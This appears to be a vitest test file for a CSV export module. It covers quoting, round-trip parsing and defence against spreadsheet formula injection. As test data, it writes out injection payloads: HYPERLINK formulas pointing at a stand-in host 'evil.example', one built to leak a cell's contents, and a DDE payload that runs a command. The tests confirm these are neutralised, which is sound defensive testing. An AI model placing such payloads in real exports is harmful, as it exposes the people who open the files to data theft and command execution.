import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvField, neutralizeFormula, parseCsv, recordsToCsv, toCsv } from "@/lib/export/csv";
import { loadDataset } from "@/lib/data/read-dataset";
import { datasetTables } from "@/lib/export/dataset-tables";

describe("CSV", () => {
  it("starts with a BOM, ends lines with CRLF and quotes by RFC 4180", () => {
    const csv = toCsv(["a", "b"], [["Việt Nam, 2017", 'say "hi"'], [null, 8], ["two\nlines", 0]]);
    expect(csv.startsWith("\uFEFFa,b\r\n")).toBe(true);
    expect(csv).toContain('"Việt Nam, 2017","say ""hi"""\r\n,8\r\n"two\nlines",0\r\n');
  });
  it("leaves plain fields unquoted and null empty", () => {
    expect(csvField("abc")).toBe("abc");
    expect(csvField(null)).toBe("");
    expect(csvField(2.5)).toBe("2.5");
  });
  it("parses back what it writes, for any text (a would-be formula with its protective apostrophe)", () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 2, maxLength: 2 }), { minLength: 1 }), (rows) => {
        expect(parseCsv(toCsv(["x", "y"], rows))).toEqual([["x", "y"], ...rows.map((row) => row.map(neutralizeFormula))]);
      }),
    );
  });
  it("never writes a text cell a spreadsheet would run as a formula (OWASP CSV injection)", () => {
    expect(csvField('=HYPERLINK("http://evil.example","click")')).toBe('"\'=HYPERLINK(""http://evil.example"",""click"")"');
    for (const formula of ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\uFF1D1+1", "-", "+"]) expect(csvField(formula).replace(/^"/, ""), JSON.stringify(formula)).toMatch(/^'/);
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        const cell = parseCsv(toCsv(["x"], [[text]]))[1]?.[0] ?? "";
        const looksLikeFormula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);
        expect(looksLikeFormula, JSON.stringify(cell)).toBe(false);
      }),
    );
  });
  it("leaves numbers, plain numeric text and ordinary text as they are", () => {
    for (const cell of [-3, 2.5, "-3", "+1.5", "-0.25", "1e-3", "Việt Nam", "— no data", "'quoted'"]) expect(csvField(cell)).toBe(String(cell));
  });
  it("neutralises a formula written into the data, in the dataset download", () => {
    const dataset = structuredClone(loadDataset());
    dataset.sources[0].title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const table = datasetTables("sources", dataset)[0];
    const [header, first] = parseCsv(recordsToCsv(table.records));
    expect(first[header.indexOf("title")]).toBe(`'${dataset.sources[0].title}`);
  });
  it("flattens nested records into dotted columns", () => {
    const csv = recordsToCsv([{ id: "a", name: { vi: "Một", en: "One" }, sources: ["s1", "s2"] }, { id: "b", extra: true }]);
    expect(parseCsv(csv)).toEqual([
      ["id", "name.vi", "name.en", "sources", "extra"],
      ["a", "Một", "One", "s1; s2", ""],
      ["b", "", "", "", "true"],
    ]);
  });
});
